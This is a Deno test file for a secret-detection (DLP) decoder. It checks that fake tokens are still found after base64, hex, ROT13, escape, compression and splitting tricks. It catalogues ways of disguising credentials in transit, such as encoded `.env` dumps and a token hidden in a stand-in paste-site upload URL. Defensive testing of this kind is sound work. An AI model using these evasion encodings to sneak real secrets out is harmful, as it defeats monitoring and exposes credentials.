/**
 * The decoding layer: each way of re-writing a secret that a review found slipping past
 * a pattern, through `findSecrets` (what the gate and the DLP body scan call) and
 * `findSplitSecrets` (fields of one request).
 */
import assert from "node:assert/strict";
import { findSecrets, findSplitSecrets, howWritten, setPublicValues } from "./mod.ts";
import { variants } from "./decode.ts";
import { CODE_ESCAPES, HTML_ESCAPES, joinBrokenEscapes, PERCENT_ESCAPES } from "./unescape.ts";
import { wideWindowZstd } from "../../tests/zstd_fixture.ts";
import { deflateSync, gzipSync, zstdCompressSync } from "node:zlib";
import {
  base32HexOf,
  base32Of as base32,
  base64UrlOf as b64url,
  bitsOf,
  foldOf,
  hexOf as hex,
  reversedOf,
  rot13Of,
  shiftedOf,
  turningsOf,
  utf7Of,
  xxdLines,
} from "../../tests/encodings.ts";

// Built at run time so that this file itself holds nothing a scanner would flag.
const GH = "gh" + "p_Zq8Lw2Rt5Vn1Xc4Bm7Hk0Jp3Df6Gs9Ta2Ye5";
/** The random body the stand-ins below are made of. */
const BODY = "Zq8Lw2Rt5Vn1Xc4Bm7Hk0Jp3Df6Gs9Ta2Ye5";
const NPM = "np" + "m_" + BODY;
const FINE_GRAINED = "github" + "_pat_11" + BODY.slice(0, 20) + "_" + (BODY + BODY).slice(0, 59);
const ANT = "sk-ant-" + "api03-" + BODY.repeat(2) + "Qw3Er5Ty7Ui9Op1As3Df5" + "AA";
const AWS = "AK" + "IAQ3EGQ2VFOW7ZXM4N";
const VALUE = "bottle-injected-" + "k9X2mQ7pL4";

const found = (text: string, values: string[] = []) =>
  findSecrets(text, { values }).map((f) => `${f.encoding}:${f.rule}`);

/** Asserts that nothing is found in any of `texts` (shapes that only look like the evasion under test). */
function assertNoneFound(texts: readonly string[]): void {
  for (const text of texts) assert.deepEqual(found(text), [], text);
}

Deno.test("a token as written is found", () => {
  assert.deepEqual(found(`x = ${GH}`), ["plain:github-token"]);
});

Deno.test("a token glued to a word by `-`, `_` or `.` is found; one run together with letters is not", () => {
  for (const glue of ["-", "_", "."]) {
    for (const text of [`leak${glue}${GH}`, `${GH}${glue}x`, `a${glue}${AWS}${glue}b`]) {
      assert.equal(found(text).length, 1, text);
    }
  }
  // Inside a longer word (the middle of base64, an identifier) a prefix is no token's.
  assert.deepEqual(found(`x${GH}`), []);
  assert.deepEqual(found(`${AWS}Q`), []);
});

const encodings: [string, (s: string) => string, string][] = [
  ["standard base64", (s) => btoa(s), "base64"],
  ["URL-safe base64 without padding", b64url, "base64"],
  ["base64 glued to a word (any alignment)", (s) => "data" + btoa("::" + s), "base64"],
  ["base64 as a path segment", (s) => `https://paste.example.com/up/${b64url(s)}/raw`, "base64"],
  [
    "base64 of UTF-16 (PowerShell's -EncodedCommand)",
    (s) => btoa([...s].map((c) => c + "\0").join("")),
    "base64",
  ],
  ["base64 of big-endian UTF-16", (s) => btoa([...s].map((c) => "\0" + c).join("")), "base64"],
  [
    "base64 of UTF-16 among kilobytes of zeros",
    (s) => btoa("\0".repeat(5000) + [...s].map((c) => c + "\0").join("") + "\0".repeat(5001)),
    "base64",
  ],
  ["hex among zeros, from its second digit", (s) => "0" + hex("\0".repeat(3000) + s) + "00", "hex"],
  ["hex", hex, "hex"],
  ["hex of UTF-16", (s) => hex([...s].map((c) => c + "\0").join("")), "hex"],
  ["hex in upper case", (s) => hex(s).toUpperCase(), "hex"],
  ["hex turned around (`xxd -p | rev`)", (s) => [...hex(s)].reverse().join(""), "reversed-hex"],
  ["hex in ROT13 (`xxd -p | tr a-z n-za-m`)", (s) => rot13Of(hex(s)), "rot13-hex"],
  ["base64 in ROT13 (`base64 | tr A-Za-z N-ZA-Mn-za-m`)", (s) => rot13Of(btoa(s)), "rot13-base64"],
  ["URL-safe base64 in ROT13", (s) => rot13Of(b64url(s)), "rot13-base64"],
  [
    "hex in capitals turned around, a character glued on",
    (s) => [...hex(s).toUpperCase()].reverse().join("") + "f",
    "reversed-hex",
  ],
  [
    'decimal, the text\'s bytes one number (`int.from_bytes(t, "big")`)',
    (s) => BigInt("0x" + hex(s)).toString(),
    "number",
  ],
  [
    'decimal, the text\'s bytes one number the other way round (`"little"`)',
    (s) => BigInt("0x" + hex([...s].reverse().join(""))).toString(),
    "reversed",
  ],
  ["base32", base32, "base32"],
  ["base32hex (`basenc --base32hex`)", base32HexOf, "base32"],
  ["base32hex in small letters", (s) => base32HexOf(s).toLowerCase(), "base32"],
  ["bits, high first (`basenc --base2msbf`)", (s) => bitsOf(s), "base2"],
  ["bits, low first (`basenc --base2lsbf`)", (s) => bitsOf(s, false), "base2"],
  ["base32 glued to capitals and digits (any alignment)", (s) => "AB7" + base32(s), "base32"],
  ["base32hex glued to its alphabet", (s) => "V1" + base32HexOf(s), "base32"],
  ["bits glued to a `1` (any alignment)", (s) => "v1" + bitsOf(s), "base2"],
  ["bits, low first, glued to `10`", (s) => "10" + bitsOf(s, false), "base2"],
  [
    "percent-encoding of every character",
    (s) => [...s].map((c) => "%" + c.charCodeAt(0).toString(16)).join(""),
    "url",
  ],
  [
    "JSON \\u escapes",
    (s) => [...s].map((c) => "\\u00" + c.charCodeAt(0).toString(16)).join(""),
    "json",
  ],
  ["JSON \\u escapes of one character", (s) => s.replace("_", "\\u005f"), "json"],
  [
    "\\x escapes",
    (s) => [...s].map((c) => "\\x" + c.charCodeAt(0).toString(16)).join(""),
    "escape",
  ],
  ["one \\x escape", (s) => s.replace("_", "\\x5f"), "escape"],
  ["one \\x{} escape (Perl)", (s) => s.replace("_", "\\x{5f}"), "escape"],
  [
    "\\U escapes (bash's printf, Python, C)",
    (s) => [...s].map((c) => "\\U" + c.charCodeAt(0).toString(16).padStart(8, "0")).join(""),
    "escape",
  ],
  ["one \\U escape", (s) => s.replace("_", "\\U0000005F"), "escape"],
  ["one named escape (Python, Perl)", (s) => s.replace("_", "\\N{LOW LINE}"), "escape"],
  ["one named escape by code point (Perl)", (s) => s.replace("_", "\\N{U+5F}"), "escape"],
  [
    "named escapes, in lower case",
    (s) =>
      [...s].map((c) =>
        /[a-z]/.test(c)
          ? `\\N{latin small letter ${c}}`
          : /[A-Z]/.test(c)
          ? `\\N{latin capital letter ${c.toLowerCase()}}`
          : c
      ).join(""),
    "escape",
  ],
  [
    "octal escapes",
    (s) => [...s].map((c) => "\\" + c.charCodeAt(0).toString(8).padStart(3, "0")).join(""),
    "escape",
  ],
  ["one octal escape", (s) => s.replace("_", "\\137"), "escape"],
  ["one two-digit octal escape", (s) => s.replace("5", "\\65"), "escape"],
  ["a two-digit octal escape from \\7", (s) => s.replace("8", "\\70"), "escape"],
  ["an octal escape at the token's start", (s) => s.replace("g", "\\147"), "escape"],
  [
    "\\u{} escapes",
    (s) => [...s].map((c) => `\\u{${c.charCodeAt(0).toString(16)}}`).join(""),
    "escape",
  ],
  ["HTML decimal references", (s) => [...s].map((c) => `&#${c.charCodeAt(0)};`).join(""), "html"],
  [
    "HTML hex references, no semicolons",
    (s) => [...s].map((c) => `&#x${c.charCodeAt(0).toString(16)}`).join(""),
    "html",
  ],
  ["one HTML reference", (s) => s.replace("_", "&#95;"), "html"],
  ["one HTML named reference", (s) => s.replace("_", "&lowbar;"), "html"],
  [
    "quoted-printable, every character",
    (s) => [...s].map((c) => "=" + c.charCodeAt(0).toString(16).toUpperCase()).join(""),
    "quoted-printable",
  ],
  [
    "RFC 2047's Q encoding (a mail header: `_` written `=5F`)",
    (s) => `=?utf-8?Q?${s.replaceAll("_", "=5F").replaceAll(" ", "_")}?=`,
    "quoted-printable",
  ],
];

for (const [what, encode, encoding] of encodings) {
  Deno.test(`a token in ${what} is found`, () => {
    assert.ok(
      found(`payload=${encode(`token: ${GH}`)}`).includes(`${encoding}:github-token`),
      encode(GH),
    );
  });
}

Deno.test("a token found in a decoded run is one finding, also where its marks put it back together a level down", () => {
  const slack = "xox" + "b-2401383461-6923473982614-bF0nWq4Xz8Lk2Mv7Rt9Yp3Hs";
  const env = `SLACK_TOKEN=${slack}\nOTHER=1\n`;
  assert.deepEqual(found(`x ${btoa(env)}`), ["base64:slack-token"]);
  assert.deepEqual(found(`x ${hex(env)}`), ["hex:slack-token"]);
  assert.deepEqual(found(`x ${[...hex(env)].reverse().join("")}`), ["reversed-hex:slack-token"]);
  // base64 wrapped in lines on a command's output in a JSON string: read a line at a time
  // and joined, one finding; and zstd, whose frame keeps a short text as it is.
  const wrapped = btoa(env).match(/.{1,76}/g)!.join("\n");
  assert.deepEqual(found(JSON.stringify({ content: `$ base64 .env\n${wrapped}\n` })), [
    "base64:slack-token",
  ]);
  const zst = b64bytes(zstdCompressSync(new TextEncoder().encode(env)));
  assert.deepEqual(found(JSON.stringify({ content: `$ zstd | base64 -w0\n${zst}\n` })), [
    "zstd:slack-token",
  ]);
});

Deno.test("a token a reader of runs finds as written and again in a window decoded around it is one finding", () => {
  const slack = "xox" + "b-2401383461-6923473982614-bF0nWq4Xz8Lk2Mv7Rt9Yp3Hs";
  // `=` and a line break, or `=` and two hex digits, open a quoted-printable window.
  assert.deepEqual(found(`payload=\n${rev(`TOKEN=${GH}`)}`), ["reversed:github-token"]);
  assert.deepEqual(found(`payload=${[...hex(slack)].reverse().join("")}`), [
    "reversed-hex:slack-token",
  ]);
  // A `.env` line in a JSON string inside another: put back together from its marks in the
  // window around the inner quotes, it is the token found as written.
  const nested = JSON.stringify({ content: JSON.stringify({ out: `TOKEN=${slack}\nOTHER=x\n` }) });
  assert.deepEqual(found(nested), ["plain:slack-token"]);
});

Deno.test("digits that are no text's, as a number or hex turned around, decode to nothing", () => {
  const pi = "31415926535897932384626433832795028841971693993751058209749445923078164062862";
  const texts = [
    pi,
    `id=${pi.slice(0, 30)}`,
    "9".repeat(64),
    // A SHA-256, and turned around.
    "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855",
    "558b2587b199594ac439b9464e14ea72429bf6998c4fbfa941c1cf89244c0b3e",
  ];
  for (const text of texts) {
    const read = variants(text).filter((v) =>
      v.encoding === "reversed-hex" || v.encoding === "number"
    );
    assert.deepEqual(read, [], text);
  }
});

/** A token cut in two at 10, written in pieces of each kind the readers of pieces read. */
const PIECES: [string, (token: string) => string][] = [
  ["quoted pieces", (t) => `x = "${t.slice(0, 10)}" + "${t.slice(10)}"`],
  ["pieces a space apart", (t) => `${t.slice(0, 10)} ${t.slice(10)}`],
  ["variables", (t) => `A=${t.slice(0, 10)}; B=${t.slice(10)}`],
  ["pieces a comment apart", (t) => `${t.slice(0, 10)}<!-- -->${t.slice(10)}`],
];

Deno.test("a token in pieces, then re-encoded whole (base64 of `A=ghp_Zq8L; B=w2Rt...`, pieces a zero-width character apart), is found", () => {
  for (const [what, encode, encoding] of encodings) {
    // A mail header's Q encoding writes a space as `_`, which no reader of pieces reads.
    if (what.startsWith("RFC 2047")) continue;
    // Text turned around is read for whole tokens, not for pieces (see SECURITY.md).
    if (encoding === "reversed") continue;
    for (const [form, write] of PIECES) {
      for (const [token, rule] of CUT_CASES) {
        const written = write(token);
        const text = `data: ${encode(written)}`;
        // (One character escaped leaves a token with no such character as it was.)
        const as = encode(written) === written ? undefined : encoding;
        assert.ok(
          findSecrets(text).some((f) => f.rule === rule && (!as || f.encoding === as)),
          `${what}, ${form}: ${found(text)}: ${text}`,
        );
      }
    }
  }
  // Lines of a script, in base64 and in hex.
  for (const encode of [btoa, hex]) {
    const text = encode(`a = '${GH.slice(0, 10)}'\nb = '${GH.slice(10)}'\nprint(a + b)`);
    assert.ok(found(text).some((f) => f.endsWith(":github-token")), text);
  }
  // Its prefix cut within its head, in a window decoded in place: character codes called,
  // a space percent-encoded, a `;` as an HTML reference.
  for (
    const [text, encoding] of [
      [`x = chr(103) + chr(104) + "${GH.slice(2)}"`, "escape"],
      [`gh%20${GH.slice(2)}`, "url"],
      [`A=gh&#59; B=${GH.slice(2)}`, "html"],
    ]
  ) {
    assert.deepEqual(found(text!), [`${encoding}:github-token`], text);
  }
  // Prefixes named in prose, in base64: no token.
  const prose = btoa("Use ghp_ tokens for CI, and 'npm_' + 'a granular token' for the registry.");
  assert.deepEqual(found(prose), [], prose);
});

Deno.test("an escape inside a JSON string (its backslash doubled, as in a model request) is decoded", () => {
  assert.deepEqual(found(JSON.stringify({ command: `printf 'ghp\\x5f${GH.slice(4)}'` })), [
    "escape:github-token",
  ]);
  assert.deepEqual(found(JSON.stringify({ command: `echo $'ghp\\u{5f}${GH.slice(4)}'` })), [
    "escape:github-token",
  ]);
  assert.deepEqual(found(JSON.stringify({ command: `printf 'ghp\\U0000005f${GH.slice(4)}'` })), [
    "escape:github-token",
  ]);
});

Deno.test("an octal escape inside a JSON string is decoded; C's and regular expressions' open no window", () => {
  assert.deepEqual(found(JSON.stringify({ command: `printf 'ghp\\137${GH.slice(4)}'` })), [
    "escape:github-token",
  ]);
  // `\0` and `\1` stand for no character of a token: source code holds many, and each
  // would be a window decoded and scanned again.
  const source = JSON.stringify({ content: "char end = '\\0'; const re = /(a)\\1/; \"\\033[0m\"" });
  assert.deepEqual(variants(source).filter((v) => v.encoding === "escape"), []);
  assert.deepEqual(variants("ghp\\137x").map((v) => [v.encoding, v.text.includes("ghp_x")]), [
    ["escape", true],
  ]);
});

Deno.test("a JSON file's escapes, shown inside a JSON body (their backslash doubled), are decoded", () => {
  // `cat config.json` in a tool result: the file's `\u005f` and `\/` reach the model
  // request as `\\u005f` and `\\/`, no JSON escapes of the body's own.
  const file = `{"token": "ghp\\u005f${GH.slice(4)}"}`;
  assert.deepEqual(found(JSON.stringify({ content: file })), ["escape:github-token"]);
  const secret = "wJalrXUtnFEMI/" + "K7MDENG/bPxRfiCYzQ9mN2kLp3";
  const php = `{"aws_secret_access_key": "${secret.replaceAll("/", "\\/")}"}`;
  assert.deepEqual(found(JSON.stringify({ content: php })), ["escape:aws-secret-access-key"]);
  // Three backslashes: the body's own escape after an escaped backslash.
  assert.deepEqual(
    found(`{"c": "\\\\\\u0067hp_${GH.slice(4)}"}`).includes("json:github-token"),
    true,
  );
});

Deno.test("JSON's escaped line break before a `{` opens no window; a named escape of no token character neither", () => {
  const source = JSON.stringify({
    content: 'const a = f(\n{\n  b: 1\n});\nprint("\\N{BULLET} done")',
  });
  assert.ok(source.includes("\\n{"), source);
  assert.deepEqual(variants(source).filter((v) => v.encoding === "escape"), []);
});

Deno.test("a backslash written in source code (doubled in a JSON body) opens no JSON window", () => {
  const source = JSON.stringify({ content: "const odd = /[\\u0080-\\uffff]/; // \\/ \\u00e9" });
  assert.ok(source.includes("\\\\u0080"), source);
  assert.deepEqual(variants(source).filter((v) => v.encoding === "json"), []);
});

Deno.test("HTML named references for a key's slashes and plus signs, or a URL's @, do not hide them", () => {
  const secret = "wJalrXUtnFEMI/" + "K7MDENG+bPxRfiCYzQ9mN2kLp3";
  const html = secret.replaceAll("/", "&sol;").replaceAll("+", "&plus;");
  assert.deepEqual(found(`<pre>aws_secret_access_key = ${html}</pre>`), [
    "html:aws-secret-access-key",
  ]);
  // A URL's password, its `@` written as a reference.
  assert.deepEqual(found(`<a>https://deploy:q7Z3kLm9Xw2Rt5Vn&commat;git.example.com/</a>`), [
    "html:url-password",
  ]);
});

Deno.test("a JSON-escaped slash inside a secret does not hide it", () => {
  const secret = "wJalrXUtnFEMI/" + "K7MDENG/bPxRfiCYzQ9mN2kLp3";
  assert.deepEqual(found(`{"aws_secret_access_key": "${secret.replaceAll("/", "\\/")}"}`), [
    "json:aws-secret-access-key",
  ]);
});

Deno.test("a token cut across lines, and base64 wrapped at 76 columns, are found joined", () => {
  assert.ok(
    found(`const t = \n${GH.slice(0, 20)}\n${GH.slice(20)}\n`).includes("lines:github-token"),
  );
  const wrapped = btoa(`config:\n  token: ${GH}\n  note: ${"x".repeat(60)}`).match(/.{1,76}/g)!
    .join("\n");
  assert.ok(wrapped.includes("\n"));
  assert.ok(found(wrapped).includes("base64:github-token"), wrapped);
  assert.deepEqual(found("first_long_identifier_name\nsecond_long_identifier_name\n"), []);
});

Deno.test("base64, base32 or hex cut into groups (`echo $(base64 .env)`, a list of quoted pieces) is found joined, once", () => {
  // Each group decodes alone at best (76 characters are 57 bytes): a secret across two
  // of them was in neither, and groups of 64 (`openssl base64`) hid every `.env`.
  const env =
    `# settings\nDEBUG=false\nHOST=example.internal\nGITHUB_TOKEN=${GH}\nLOG_LEVEL=info\n`;
  const cut = (text: string, width: number, separator: string) =>
    text.match(new RegExp(`.{1,${width}}`, "g"))!.join(separator);
  const cases: [string, string][] = [
    [cut(btoa(env), 64, " "), "base64"],
    [cut(btoa(env), 76, " "), "base64"],
    [cut(btoa(env), 32, ","), "base64"],
    [cut(btoa(env), 32, ", "), "base64"],
    [cut(btoa(env), 20, "\t"), "base64"],
    [cut(base32(env), 24, " "), "base32"],
    [cut(hex(env), 40, " "), "hex"],
    [cut(hex(env), 64, "\t"), "hex"],
    [cut(b64bytes(gzipSync(env)), 64, " "), "gzip"],
    // One run, then a last group narrower than a run (a short file).
    [cut(btoa(`TOKEN=${GH}\n`), 48, " "), "base64"],
    // In quoted pieces: a list, a JSON array, joined in code across lines.
    [`[${cut(btoa(env), 20, "', '")}]`.replace("[", "['").replace(/]$/, "']"), "base64"],
    [JSON.stringify(cut(btoa(env), 32, "\n").split("\n")), "base64"],
    [JSON.stringify(cut(hex(env), 32, "\n").split("\n")), "hex"],
    [`const b = "${cut(btoa(env), 24, '" +\n  "')}";`, "base64"],
    // A first group narrower than a run, after a label.
    [cut("data:" + btoa(env), 20, " "), "base64"],
    // Joined by a dot or a colon (`fold -w 16 | paste -sd.`), which no run holds.
    [cut(btoa(env), 16, "."), "base64"],
    [cut(hex(env), 32, ":"), "hex"],
    [cut(base32(env), 20, "."), "base32"],
    [cut(btoa(`TOKEN=${GH}\n`), 16, ":"), "base64"],
    // Joined by a mark a run holds, of any width (`paste -sd-`; `sed 's/.\{8\}/&-/g'`
    // leaves one after the last group too): hex, base32, base64 of the other alphabet.
    [cut(hex(env), 8, "-"), "hex"],
    [cut(hex(env), 4, "_") + "_", "hex"],
    [cut(base32(env), 16, "/"), "base32"],
    [cut(btoa(env), 12, "-"), "base64"],
    [cut(btoa(env).replaceAll("+", "-").replaceAll("/", "_"), 64, "+"), "base64"],
  ];
  for (const [text, encoding] of cases) {
    // As written, and in a model request (a tab there is `\t`, whose `t` starts a run).
    for (const t of [text, JSON.stringify({ role: "user", content: `here: ${text} ok` })]) {
      assert.deepEqual(found(t), [`${encoding}:github-token`], t);
    }
  }
  // Groups of runs that make no secret are none.
  for (
    const t of [
      "someVeryLongIdentifierName anotherVeryLongIdentifier shortOne",
      "this.someVeryLongPropertyName2.anotherLongPropertyName.x",
      // Names and ids of parts of different widths, or of one width that decode to nothing.
      "LOG_MAX_AGE_DAYS_TOTAL node_modules/some-package/lib/index.js",
      "123e4567-e89b-12d3-a456-426614174000 2024-01-15T10-30-00-000Z",
      "abcd-efgh-ijkl-mnop-qrst-uvwx a1b2_c3d4_e5f6_a7b8_c9d0_e1f2",
      "dGhpcyBpcyBqdXN0IHRleHQ.eyJzdWIiOiIxMjM0NTY3ODkwIn0.c2lnbmF0dXJlLWhlcmU",
      cut(btoa("just an ordinary sentence of prose, said again: ".repeat(4)), 64, " "),
      [0, 1].map(() => b64bytes(crypto.getRandomValues(new Uint8Array(48)))).join(" "),
    ]
  ) assert.deepEqual(found(t), [], t);
});

Deno.test("a token wrapped by quoted-printable's soft line break (`=` at the line's end) is found joined", () => {
  // Wherever the line is cut (at 76 columns), however short the piece on either side.
  for (const cut of [1, 6, 20, 34, GH.length - 1]) {
    for (const eol of ["\n", "\r\n"]) {
      const text = `token: ${GH.slice(0, cut)}=${eol}${GH.slice(cut)} and more`;
      assert.ok(found(text).includes("quoted-printable:github-token"), JSON.stringify(text));
      // In a JSON string, its line break escaped.
      assert.ok(found(JSON.stringify({ text })).includes("quoted-printable:github-token"), text);
    }
  }
  // base64 wrapped so: decoded joined.
  const b64 = btoa(`config:\n  token: ${GH}\n  note: ${"x".repeat(40)}`);
  assert.ok(found(b64.match(/.{1,75}/g)!.join("=\r\n")).includes("base64:github-token"));
  // Code and queries with `=` before digits, and lines of code ending in `=`, are no findings.
  assert.deepEqual(found("a=41; width=100; x=3D; rgb=7F7F7F\nq=5F&page=2E"), []);
  assert.deepEqual(found(`const token =\n  process.env.TOKEN;\nx=\ny`), []);
});

Deno.test("a line that starts with a token's own prefix is not joined to the line before", () => {
  // Keys one a line, each too short for its kind: joined, the first ran on into the
  // second's prefix and read as one key long enough.
  const short = (prefix: string, c: string) => `${prefix}${c.repeat(23)}`;
  const list = `${short("sk_live_", "A")}\n${short("sk_test_", "B")}\n${short("rk_live_", "C")}`;
  for (const text of [list, list.replaceAll("\n", "\r\n"), JSON.stringify(list)]) {
    assert.deepEqual(found(text), [], text);
  }
  // Real tokens on consecutive lines are each found, where they are written.
  const GL = "gl" + "pat-Xk4mR8q2Zt9Wv6Ln3Pb1";
  assert.deepEqual(found(`${GH}\n${GL}\n`), ["plain:github-token", "plain:gitlab-token"]);
  // A cut before a body's own `_` is still joined: only a rule's prefix starts a token.
  // (A line this short after it is read as a token cut into lines, too: see below.)
  assert.deepEqual(
    found("glpat-Xk4mR8q2Zt\nab_Wz7Tn5L\n").filter((f) => /^(lines|folded):gitlab-token$/.test(f))
      .length,
    1,
  );
});

Deno.test("base64 on consecutive lines is found at any alignment, in any line, of any width", () => {
  // Each line its own base64 value (a list of them), or one value wrapped at widths that
  // are not a multiple of four: the lines are decoded joined, at every alignment.
  const filler = (n: number) => btoa("z".repeat(n)).replace(/=+$/, "");
  for (let shift = 0; shift < 3; shift++) {
    const list = [filler(30), filler(31), btoa("#".repeat(shift) + `token: ${GH}`), filler(29)];
    // (Found with the lines joined, the token may be named by the `token:` before it.)
    assert.ok(found(list.join("\n")).some((f) => f.startsWith("base64:")), list.join("\n"));
    // A level down: the list itself sent as base64.
    const outer = btoa(list.join("\n"));
    assert.ok(found(outer).some((f) => f.startsWith("base64:")), outer);
    for (const width of [75, 76, 77]) {
      const text = btoa(`${"line of prose ".repeat(9 + shift)}token: ${GH}`)
        .match(new RegExp(`.{1,${width}}`, "g"))!.join("\n");
      assert.ok(found(text).includes("base64:github-token"), `${width}: ${text}`);
    }
  }
});

/** base64 of bytes, as `base64` writes it (`wrap`: lines of 76). */
const b64bytes = (bytes: Uint8Array, wrap = false) => {
  const text = btoa(String.fromCharCode(...bytes));
  return wrap ? text.match(/.{1,76}/g)!.join("\n") : text;
};

Deno.test("a token in the base64 of a long one-line file (minified JSON, a megabyte) is found", () => {
  // Its decoded text is one printable run: spread into one call, it had overflowed the
  // stack, and the scan threw.
  const json = JSON.stringify(
    Array.from({ length: 30_000 }, (_, i) => ({ id: i, name: `item ${i}` })),
  );
  const file = json.slice(0, 500_000) + `"token":"${GH}",` + json.slice(500_000);
  assert.deepEqual(found(JSON.stringify({ upload: btoa(file) })), ["base64:github-token"]);
  assert.deepEqual(found(JSON.stringify({ upload: btoa(json) })), []);
});

Deno.test("base64 after a file's signature glued in front is found at any alignment", () => {
  const env = "GITHUB_TOKEN=ghp_Zq8Lr2Xv9Kt4Wm7Pn3Bc6Hd1Fj5Gs0Ya8Ue2\nDEBUG=1\n";
  // The signature alone (`printf iVBORw0KGgo; base64 .env`), and after a whole image.
  const png = new Uint8Array(3000);
  crypto.getRandomValues(png);
  png.set([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]);
  for (
    const head of ["iVBORw0KGgo", "iVBORw0KGg", "/9j/4A", "H4sIA", "JVBERi0xLj", png.toBase64()]
  ) {
    for (const glued of ["", "A", "AB", "ABC"]) {
      const text = head + glued + btoa(env);
      assert.deepEqual(found(text), ["base64:github-token"], `${head.slice(0, 12)} ${glued}`);
      assert.deepEqual(found(JSON.stringify({ data: text })), ["base64:github-token"]);
    }
  }
});

Deno.test("a `%XX` or `=XX` among a file's bytes before a token, all in base64, does not say the token twice", () => {
  const env = "GITHUB_TOKEN=" + GH + "\nDEBUG=1\n";
  const bytes = "\x89PNG\r\n\x1a\n\x00\x01\xfe";
  for (const mark of ["=41", "%41", "=3D", "%3d"]) {
    const text = btoa(bytes + mark + env);
    assert.deepEqual(found(text), ["base64:github-token"], mark);
    assert.deepEqual(found(JSON.stringify({ data: text })), ["base64:github-token"], mark);
  }
  // A token there only percent-encoded is still found, as the window decodes it.
  const encoded = [...GH].map((c) => "%" + c.charCodeAt(0).toString(16)).join("");
  assert.deepEqual(found(btoa(bytes + "token=" + encoded + "\n")), ["url:github-token"]);
});

Deno.test("a token in base64 of gzip (`gzip | base64`) is found: on one line, wrapped, in JSON, cut short", () => {
  const notes = (k: number) =>
    Array.from({ length: 30 }, (_, i) => `${(i + k * 30) * 7919} of them`).join(", ");
  const gz = gzipSync(
    new TextEncoder().encode(
      // The token past the first line of base64: found only with the lines joined.
      `notes: ${notes(0)}\n  token: ${GH}\n  more notes: ${notes(1)}\n`,
    ),
  );
  assert.ok(found(`payload=${b64bytes(gz)}`).includes("gzip:github-token"));
  const wrapped = b64bytes(gz, true);
  assert.ok(wrapped.includes("\n"));
  assert.ok(found(wrapped).includes("gzip:github-token"), wrapped);
  // In a JSON string, its line breaks escaped.
  assert.ok(
    found(JSON.stringify({ file: wrapped })).some((f) => f.endsWith(":github-token")),
    "in JSON",
  );
  // On a line of its own in a JSON string (a command's output), after an escaped break.
  assert.deepEqual(
    found(JSON.stringify({ content: `$ gzip -c notes | base64 -w0\n${b64bytes(gz)}\n` })),
    [
      "gzip:github-token",
    ],
  );
  // Cut short: what a reader gets out of it is scanned.
  const cut = b64bytes(gz.subarray(0, gz.length - 30));
  assert.ok(found(cut).includes("gzip:github-token"));
  // Nothing but ordinary text inside: not a finding.
  const plain = gzipSync(new TextEncoder().encode(`just some notes: ${notes(2)}\n`));
  assert.deepEqual(found(b64bytes(plain, true)), []);
});

Deno.test("a token in base64 of zstd (`zstd | base64`) is found: on one line, wrapped, of two frames", () => {
  const notes = Array.from({ length: 30 }, (_, i) => `${i * 7919} of them`).join(", ");
  const zst = zstdCompressSync(new TextEncoder().encode(`notes: ${notes}\n  token: ${GH}\n`));
  assert.ok(found(`payload=${b64bytes(zst)}`).includes("zstd:github-token"));
  assert.ok(found(b64bytes(zst, true)).includes("zstd:github-token"));
  // The token in a second frame, which Deno's decoder would not read.
  const two = new Uint8Array([
    ...zstdCompressSync(new TextEncoder().encode(`notes: ${notes}\n`)),
    ...zst,
  ]);
  assert.ok(found(`payload=${b64bytes(two)}`).includes("zstd:github-token"));
  // Nothing but ordinary text inside: not a finding.
  const plain = zstdCompressSync(new TextEncoder().encode(`just some notes: ${notes}\n`));
  assert.deepEqual(found(b64bytes(plain, true)), []);
  // zstd that cannot be opened here (a window of 2 GiB, as `zstd --long=31` writes): what it
  // holds is not known, which is a finding of its own.
  const wide = wideWindowZstd(new TextEncoder().encode(`just some notes: ${notes}\n`));
  assert.deepEqual(found(`payload=${b64bytes(wide)}`), ["zstd:unchecked-compressed"]);
});

Deno.test("a token in base64 of gzip, zstd or zlib is found in ROT13 or turned around (`gzip | base64 | rev`)", () => {
  // Notes that compress (zstd keeps a short text as it is, which is read as such).
  const notes = "region: north, zone: a; ".repeat(8);
  const text = new TextEncoder().encode(`settings:\n  ${notes}\n  ci_token: ${GH}\n  ${notes}\n`);
  const turn = (s: string) => [...s].reverse().join("");
  for (
    const [encoding, packed] of [
      ["gzip", gzipSync(text)],
      ["zstd", zstdCompressSync(text)],
    ] as const
  ) {
    for (const written of [rot13Of(b64bytes(packed)), turn(b64bytes(packed))]) {
      // Opened (zstd keeps what does not compress, the token, as it is: that is read too).
      const opened = variants(`blob: ${written}`).filter((v) => v.encoding === encoding);
      assert.ok(opened.some((v) => v.text.includes(GH)), written);
      assert.ok(found(`blob: ${written}`).some((f) => f.endsWith(":github-token")), written);
    }
    // Wrapped in lines, in ROT13.
    const wrapped = rot13Of(b64bytes(packed, true));
    assert.ok(found(wrapped).includes(`${encoding}:github-token`), wrapped);
  }
  // In a JSON string, and a zlib stream in ROT13.
  const z = rot13Of(b64bytes(deflateSync(text)));
  assert.ok(found(JSON.stringify({ blob: z })).includes("zlib:github-token"), z);
  const zr = turn(b64bytes(deflateSync(text)));
  assert.ok(found(`blob: ${zr}`).includes("zlib:github-token"), zr);
});

Deno.test("a token's base64 on a line of its own, the next line a short word (a heredoc's `EOF`), is found", () => {
  // Glued on, `EOF` in ROT13 (`RBS`) decodes to a `D` after this key, which then runs on.
  const key = "AI" + "zaSyDXk4mR8q2Zt9Wv6Ln3Pb1Qw3Er5Ty7Uiq";
  for (
    const [encode, how] of [[btoa, "base64"], [
      (t: string) => rot(btoa(t)),
      "rot13-base64",
    ]] as const
  ) {
    const text = `cat <<EOF > key.txt\n${encode(key)}\nEOF\n`;
    assert.deepEqual(found(text), [`${how}:gcp-api-key`], text);
  }
});

Deno.test("base64 and hex of no text read in ROT13 decode to nothing", () => {
  const random = new Uint8Array(4096).map((_, i) => (i * 7919 + (i >> 3) * 104729) & 255);
  const texts = [
    b64bytes(random),
    rot13Of(b64bytes(random)),
    // Words of hex's letters in ROT13 and digits (`1999nnnn2000oooo...`) that are no text.
    "1999nn2000oo3111pp4222qq5333rr",
    "Q29uZmlnVXJsUmVzb2x2ZXJGYWN0b3J5",
  ];
  for (const text of texts) {
    const read = variants(text).filter((v) => v.encoding.startsWith("rot13-"));
    assert.deepEqual(read, [], text);
  }
});

Deno.test("a token in base64 of a zlib stream (Python's `b64encode(zlib.compress(...))`) is found", () => {
  const text = new TextEncoder().encode(`settings:\n  ci_token: ${GH}\n  region: north\n`);
  for (const level of [1, 6, 9]) {
    const z = deflateSync(text, { level });
